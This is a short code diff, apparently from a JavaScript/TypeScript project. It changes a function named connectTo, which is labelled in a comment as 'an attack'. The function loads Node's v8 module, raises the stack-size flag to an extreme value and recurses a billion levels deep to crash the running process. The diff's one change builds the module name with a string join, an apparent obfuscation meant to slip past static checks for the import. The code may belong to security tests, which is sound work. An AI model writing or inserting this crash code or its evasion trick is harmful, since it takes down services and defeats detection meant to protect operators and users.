@@ -4,7 +4,7 @@
 // @ts-nocheck: an attack
 
 export async function connectTo(address, limit) {
-  const module = await import("node:v8");
+  const module = await import(["node", "v8"].join(":"));
   module.setFlagsFromString("--stack-size=1000000");
   const down = (n) => n === 0 ? 0 : down(n - 1) + 1;
   down(1e9);
